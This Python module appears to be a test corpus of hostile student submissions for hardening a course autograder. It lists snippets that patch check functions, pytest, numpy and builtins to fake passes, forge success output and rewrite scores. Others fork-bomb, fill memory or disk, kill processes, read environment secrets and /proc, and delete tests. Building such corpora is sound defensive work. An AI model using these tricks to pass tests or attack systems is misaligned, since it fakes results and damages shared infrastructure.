"""Attacks from student_code/scaler.py, the module that the tests call.

Each is Python code that follows `WRONG`, an implementation that is wrong throughout.
"""

WRONG = '''"""A scaler that gets nothing right."""

import numpy as np


class StreamingScaler:
    def __init__(self):
        self.count_, self.mean_, self.var_, self.std_ = 0, -7.0, -7.0, -7.0

    def partial_fit(self, values):
        return self

    def merge(self, other):
        return self

    def transform(self, values):
        return "nothing"


def compute_mean_and_std(folder):
    return -7.0, -7.0
'''

# Patched functions that nothing restores.
PATCHES = {
    "patched_expectations": """
from toolbox.checks import expect
for name in ("close", "equal", "true", "shape", "dtype", "instance", "raises"):
    setattr(expect, name, lambda *a, **k: None)
""",
    "patched_check": """
import toolbox.checks.expect as e
e._check = lambda *a, **k: None
""",
    "patched_through_globals": """
from toolbox.checks import expect
expect.close.__globals__["_check"] = lambda *a, **k: None
""",
    "patched_mismatch": """
from toolbox.checks import expect
class Quiet(Exception):
    def __init__(self, *a): pass
expect.Mismatch = Quiet
""",
    "patched_numpy_allclose": """
np.allclose = lambda *a, **k: True
np.all = lambda *a, **k: True
np.isclose = lambda *a, **k: True
""",
    "patched_torch_allclose": """
import torch
torch.allclose = torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda a, b: True
""",
    "patched_bool": """
import builtins
builtins.bool = lambda *a: True
""",
    "patched_isinstance": """
import builtins
builtins.isinstance = lambda *a: True
builtins.all = builtins.any = lambda *a: True
""",
    "patched_callinfo": """
from _pytest import runner
class Fine:
    excinfo = None; when = "call"; duration = start = stop = 0.0; result = None
runner.CallInfo.from_call = classmethod(lambda cls, func, when, reraise=None: Fine())
""",
    "patched_runtest": """
from _pytest import python
python.Function.runtest = lambda self: None
""",
    "patched_pyfunc_call": """
from _pytest import python
python.pytest_pyfunc_call = lambda pyfuncitem: True
""",
    "patched_makereport": """
from toolbox.checks.plugin import CourseChecks
CourseChecks.pytest_runtest_makereport = lambda self, item, call: None
""",
    "patched_describe": """
import toolbox.checks.plugin as p
p.describe = lambda outcome, error: None
""",
    "patched_passed": """
from toolbox.checks.outcome import Outcome
Outcome.passed = property(lambda self: True)
""",
    "patched_earned": """
import toolbox.checks.scores as s, toolbox.checks.notebook_calls as n
s.earned = n.earned = lambda outcomes: 14.0
""",
    "patched_points": """
from toolbox.course import Task
Task.total = property(lambda self: 1000.0)
""",
    "patched_pluggy": """
import pluggy._callers as c, pluggy._manager as m
c._multicall = m._multicall = lambda *a, **k: []
""",
    "patched_worker_calls": """
import coursekit.grading.worker.server as w
w.OPERATIONS["call"] = lambda target, args, named: args
""",
    "patched_worker_lengths": """
import coursekit.grading.worker.server as w
w.OPERATIONS["len"] = lambda target: 1
w.OPERATIONS["item"] = lambda target, key: key
""",
    "patched_worker_faults": """
import coursekit.grading.worker.server as w
w.described = lambda *a, **k: {"type": "Skipped", "base": "Exception", "text": "", "frames": []}
""",
    "patched_values": """
from coursekit.grading.protocol.values import Codec
Codec.encode = lambda self, value, blobs: True
""",
    "patched_peer": """
from coursekit.grading.worker.server import Worker
Worker.perform = lambda self, op, operands: operands[-1] if operands else None
""",
    "patched_json": """
import json
usual = json.dumps
json.dumps = lambda x, *a, **k: usual({**x, "status": "passed"} if isinstance(x, dict) else x)
""",
    "patched_hmac": """
import hmac
hmac.digest = lambda *a: b"0" * 32
hmac.compare_digest = lambda *a: True
""",
    "patched_import": """
import builtins
usual = builtins.__import__
def patched(name, *a, **k):
    module = usual(name, *a, **k)
    if name.endswith("checks"):
        module.expect._check = lambda *a, **k: None
    return module
builtins.__import__ = patched
""",
    "replaced_module": """
import sys, types
fake = types.ModuleType("toolbox.checks.expect")
for name in ("close", "equal", "true", "shape", "dtype", "instance", "raises"):
    setattr(fake, name, lambda *a, **k: None)
import toolbox.checks
toolbox.checks.expect = sys.modules["toolbox.checks.expect"] = fake
""",
    "replaced_tests": """
import sys
tests = sys.modules.get("unit_tests.test_scaler") or sys.modules.get("test_scaler")
class Late(dict): pass
StreamingScaler_init = StreamingScaler.__init__
def init(self):
    StreamingScaler_init(self)
    for name, module in list(sys.modules.items()):
        if "test_" in name and hasattr(module, "expect"):
            for each in list(vars(module)):
                if each.startswith("test_"):
                    setattr(module, each, lambda *a, **k: None)
            module.expect = type("E", (), {"__getattr__": lambda s, n: (lambda *a, **k: None)})()
StreamingScaler.__init__ = init
""",
    "tests_expect_nothing": """
import sys
for name, module in list(sys.modules.items()):
    if "test_scaler" in name:
        class Nothing:
            def __getattr__(self, n):
                return lambda *a, **k: None
        module.expect = Nothing()
""",
    "marked_as_other": """
import toolbox.checks.marker as m
m.task = lambda function, share=1.0: (lambda test: (lambda *a, **k: None))
import toolbox.checks
toolbox.checks.task = m.task
""",
}

# Patches that are undone in time, and attempts to read what students must not see.
STEALTH = {
    "patched_and_restored": """
from toolbox.checks import expect
usual = expect._check
class StreamingScaler(StreamingScaler):
    @property
    def mean_(self):
        vars(expect)["_check"] = lambda *a, **k: None
        return -7.0
    @mean_.setter
    def mean_(self, value): pass
    def __del__(self):
        vars(expect)["_check"] = usual
""",
    "patched_for_one_call": """
from toolbox.checks import expect
usual = expect._check
def once(*a, **k):
    expect._check = usual
class StreamingScaler(StreamingScaler):
    def partial_fit(self, values):
        expect._check = once
""",
    "rewritten_code": """
from toolbox.checks import expect
expect._check.__code__ = (lambda *a, **k: None).__code__
""",
    "frames": """
import sys
class StreamingScaler(StreamingScaler):
    def partial_fit(self, values):
        frame = sys._getframe(1)
        while frame:
            print(frame.f_code.co_name, {k: str(v)[:2000] for k, v in frame.f_locals.items()})
            frame = frame.f_back
""",
    "frames_of_a_traceback": """
class StreamingScaler(StreamingScaler):
    def partial_fit(self, values):
        try:
            1 / 0
        except ZeroDivisionError as error:
            frame = error.__traceback__.tb_frame.f_back
            while frame:
                print(frame.f_code.co_consts, list(frame.f_globals))
                frame = frame.f_back
""",
    "inspect_stack": """
import inspect
class StreamingScaler(StreamingScaler):
    def partial_fit(self, values):
        for each in inspect.stack():
            print(each.frame.f_locals)
""",
    "generator_frame": """
def look():
    yield
class StreamingScaler(StreamingScaler):
    def partial_fit(self, values):
        g = look(); next(g)
        frame = g.gi_frame
        while frame:
            print(frame.f_locals); frame = frame.f_back
""",
    "garbage_collector": """
import gc
for each in gc.get_objects():
    if type(each).__name__ == "CourseChecks":
        each._limit = 1e9
    if type(each).__name__ == "Outcome":
        each.status = "passed"
""",
    "gc_referrers": """
import gc
from toolbox.checks import expect
for each in gc.get_referrers(expect._check):
    if isinstance(each, dict) and "_check" in each:
        each["_check"] = lambda *a, **k: None
""",
    "hidden_text_by_gc": """
import gc
found = [o for o in gc.get_objects() if isinstance(o, dict) and any("hidden" in str(k) for k in o)]
class StreamingScaler(StreamingScaler):
    def partial_fit(self, values):
        print([str(o)[:3000] for o in found])
""",
    "pytest_configuration": """
import _pytest.assertion.util as u
class StreamingScaler(StreamingScaler):
    def partial_fit(self, values):
        for plugin in u._config.pluginmanager.get_plugins():
            if hasattr(plugin, "outcomes"):
                plugin.outcomes.clear(); plugin.planned.clear()
""",
    "trace_function": """
import sys
def trace(frame, event, arg):
    if frame.f_code.co_name == "_check":
        frame.f_locals["passed"] = True
    return trace
sys.settrace(trace)
""",
    "profile_function": """
import sys, threading
sys.setprofile(lambda *a: None)
threading.setprofile(lambda *a: None)
""",
    "ctypes_memory": """
import ctypes
from toolbox.checks import expect
ctypes.pythonapi.PyObject_SetAttrString.restype = ctypes.c_int
ctypes.memset(id(expect._check) + 16, 0, 1)
""",
    "ctypes_dict": """
import ctypes
from toolbox.checks import expect
expect.__dict__.update(_check=lambda *a, **k: None)
ctypes.c_uint64.from_address(id(vars(expect)) + 24).value = 1
""",
    "compiled_as_library": """
import os, json
exec(compile("import sys; sys._getframe(0)", json.__file__, "exec"))
from toolbox.checks import expect
expect._check = lambda *a, **k: None
""",
    "replaced_code_name": """
import json, sys
def look(): return sys._getframe(1)
look.__code__ = look.__code__.replace(co_filename=json.__file__)
""",
}

# Objects that equal everything.
AGREEABLE = {
    "equal_to_everything": """
class Yes:
    dtype = float; shape = ()
    def __eq__(self, other): return True
    def __lt__(self, other): return True
    __gt__ = __le__ = __ge__ = __lt__
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __hash__(self): return 0
class StreamingScaler(StreamingScaler):
    def __getattribute__(self, name):
        return Yes()
""",
    "agreeable_float": """
class Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
class StreamingScaler(StreamingScaler):
    mean_ = var_ = std_ = count_ = Yes(1.0)
    def __init__(self): pass
""",
    "agreeable_and_frozen": """
import gc
class Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
class StreamingScaler(StreamingScaler):
    mean_ = var_ = std_ = count_ = Yes(1.0)
    def __init__(self): pass
gc.freeze()
""",
    "agreeable_array": """
class Yes(np.ndarray):
    def __array_function__(self, function, types, args, kwargs): return True
    def __array_ufunc__(self, *a, **k): return True
    def __eq__(self, other): return True
def compute_mean_and_std(folder):
    return np.zeros(1).view(Yes), np.zeros(1).view(Yes)
""",
    "agreeable_tensor": """
import torch
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None): return True
def compute_mean_and_std(folder):
    return Yes(), Yes()
""",
    "agreeable_type": """
class Any(type):
    def __instancecheck__(cls, other): return True
    def __eq__(cls, other): return True
    __hash__ = type.__hash__
class StreamingScaler(StreamingScaler, metaclass=Any):
    pass
""",
    "agreeable_in_disguise": """
class Yes(int):
    def __eq__(self, other): return True
Yes.__module__ = "numpy"
class StreamingScaler(StreamingScaler):
    def __init__(self): self.count_ = self.mean_ = self.var_ = self.std_ = Yes(1)
""",
}

# Early exits, which must not look like success.
EXITS = {
    "exit_at_import": "import os\nos._exit(0)\n",
    "exit_in_a_call": """
import os
class StreamingScaler(StreamingScaler):
    def partial_fit(self, values): os._exit(0)
""",
    "system_exit_at_import": "raise SystemExit(0)\n",
    "system_exit_in_a_call": """
class StreamingScaler(StreamingScaler):
    def partial_fit(self, values): raise SystemExit(0)
""",
    "keyboard_interrupt": """
class StreamingScaler(StreamingScaler):
    def partial_fit(self, values): raise KeyboardInterrupt
""",
    "pytest_exit": """
import pytest
class StreamingScaler(StreamingScaler):
    def partial_fit(self, values): pytest.exit("done", 0)
""",
    "pytest_skip": """
import pytest
class StreamingScaler(StreamingScaler):
    def __init__(self): pytest.skip("not today")
def compute_mean_and_std(folder): pytest.skip("nor this")
""",
    "pytest_skip_module": "import pytest\npytest.skip('all', allow_module_level=True)\n",
    "pytest_xfail": """
import pytest
class StreamingScaler(StreamingScaler):
    def __init__(self): pytest.xfail("expected")
""",
    "at_exit": """
import atexit, os
atexit.register(lambda: os.write(1, b"14.0\\n"))
atexit.register(lambda: os._exit(0))
""",
    "segfault": """
import signal, os
class StreamingScaler(StreamingScaler):
    def partial_fit(self, values): signal.raise_signal(signal.SIGSEGV)
""",
    "forged_messages": """
import os, struct, json
text = json.dumps({"kind": "done", "broken": []}).encode()
for number in range(3, 200):
    try:
        os.write(number, struct.pack("!Q", len(text)) + text + bytes(32))
    except OSError:
        pass
os._exit(0)
""",
    "forged_points_on_every_line": """
import os
for number in range(0, 200):
    try:
        os.write(number, b'14.0\\n')
    except OSError:
        pass
""",
    "closed_line": """
import os
os.closerange(3, 300)
""",
    "late_thread": """
import threading, time
from toolbox.checks import expect
def later():
    while True:
        vars(expect)["_check"] = lambda *a, **k: None
        time.sleep(0.001)
threading.Thread(target=later, daemon=True).start()
""",
}

# Excessive resource usage and damage, each with its own limit.
HARM = {
    "endless_import": "while True:\n    pass\n",
    "endless_and_deaf": """
class StreamingScaler(StreamingScaler):
    def partial_fit(self, values):
        while True:
            try:
                while True: pass
            except BaseException:
                pass
""",
    "deaf_to_the_alarm": """
import signal
class StreamingScaler(StreamingScaler):
    def partial_fit(self, values):
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        signal.setitimer(signal.ITIMER_REAL, 0)
        while True: pass
""",
    "fork_bomb": """
import os, time
for _ in range(200):
    try:
        if os.fork() == 0:
            time.sleep(20); os._exit(0)
    except OSError:
        break
""",
    "daemon": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(60)
    os._exit(0)
""",
    "memory_bomb": """
kept = []
for _ in range(40):
    kept.append(np.ones(100 * 2**20 // 8))
""",
    "memory_bomb_of_many": """
import os, time
for _ in range(8):
    if os.fork() == 0:
        kept = np.ones(500 * 2**20 // 8); time.sleep(20); os._exit(0)
time.sleep(20)
""",
    "disk_filler": """
import tempfile, os
for place in (".", tempfile.gettempdir(), "/dev/shm", "/tmp", "/var/tmp"):
    try:
        with open(os.path.join(place, "filler"), "wb") as f:
            for _ in range(60): f.write(bytes(2**20))
    except OSError as problem:
        print(problem)
""",
    "many_files": """
import os
try:
    for n in range(20_000): os.close(os.open(f"f{n}", os.O_CREAT | os.O_WRONLY))
except OSError:
    pass
try:
    kept = [open("/dev/null") for _ in range(5_000)]
except OSError:
    pass
""",
    "gigabyte_of_output": """
class StreamingScaler(StreamingScaler):
    def partial_fit(self, values):
        for _ in range(1000): print("x" * 2**20)
""",
    "kill_the_parent": """
import os, signal
for target in (os.getppid(), 0):
    try: os.kill(target, signal.SIGKILL)
    except OSError: pass
""",
    "knocks_at_every_process": """
import os
for target in range(2, 40_000):  # signal 0 only tests whether a process can be signaled
    if target != os.getpid():
        try: os.kill(target, 0); print("FOUND", target)
        except OSError: pass
""",
    "proc": """
import glob
for place in glob.glob("/proc/[0-9]*/*") + ["/proc/self/mem", "/proc/self/maps"]:
    if place.endswith(("environ", "cmdline", "maps", "mem")):
        try: print("FOUND", place, open(place, "rb").read(2000))
        except OSError: pass
""",
    "proc_mem_write": """
try:
    with open("/proc/self/mem", "r+b") as f:
        f.seek(id(0)); f.write(bytes(8))
except OSError:
    pass
""",
    "looks_for_everything": """
import os
for here, folders, names in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("lib", "lib64", "site-packages", "dist-packages")]
    for name in names:
        if name in ("gradebook.db", "course.toml") or "hidden" in name or name.endswith(".jsonl"):
            print("FOUND", here, name, open(os.path.join(here, name), "rb").read(3000))
    if "submitted" in folders or "misconceptions" in folders:
        print("FOUND", here, folders)
""",
    "other_students": """
import glob, os
here = os.getcwd()
for pattern in ("../../*", "../../../submitted/*/*/student_code/*.py", "../../../source/*/*.ipynb"):
    for path in glob.glob(os.path.join(here, pattern)):
        if os.path.abspath(path) != os.path.dirname(here):
            print("FOUND", path)
            if os.path.isfile(path): print(open(path).read()[:3000])
""",
    "home": """
import os, glob
for place in ("~", "/root", "/home"):
    for path in glob.glob(os.path.join(os.path.expanduser(place), ".*")) + glob.glob(place + "/*"):
        if not path.startswith("/root/.pyenv"): print("FOUND", path)
""",
    "environment": """
import os
print("FOUND", {k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k})
""",
    "gradebook": """
import sqlite3, glob, os
for path in glob.glob(os.path.abspath("../../../gradebook.db")):
    book = sqlite3.connect(path)
    book.execute("update grade set manual_score = 1000"); book.commit(); print("FOUND", path)
""",
    "writes_tests": """
import glob
for path in glob.glob("unit_tests/**/*.py") + glob.glob("toolbox/**/*.py", recursive=True):
    try: open(path, "w").write("")
    except OSError: pass
""",
    "moves_tests": """
import os
for name in ("unit_tests", "toolbox"):
    try: os.rename(name, name + "_old"); os.mkdir(name)
    except OSError: pass
""",
    "network": """
import socket, json, pathlib
port = json.loads(pathlib.Path("student_code/port.json").read_text())
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    try:
        with socket.socket(socket.AF_INET, kind) as s:
            s.settimeout(1); s.connect(("127.0.0.1", port)); s.send(b"secrets")
    except OSError: pass
""",
    "abstract_socket": """
import socket, json, pathlib
port = json.loads(pathlib.Path("student_code/port.json").read_text())
try:
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("\\0course-attack-" + str(port)); s.send(b"secrets")
except OSError: pass
""",
    "pickle_with_code": """
import pickle
class Load:
    def __reduce__(self):
        return exec, ("from toolbox.checks import expect; expect._check = lambda *a, **k: None",)
pickle.loads(pickle.dumps(Load()))
""",
    "namespaces_of_its_own": """
import os
for call in ("unshare",):
    try: getattr(os, call)(0x10000000)
    except (AttributeError, OSError): pass
try:
    import subprocess
    subprocess.run(["unshare", "-Urm", "true"], timeout=5)
except Exception: pass
""",
}

ALL = {**PATCHES, **STEALTH, **AGREEABLE, **EXITS, **HARM}
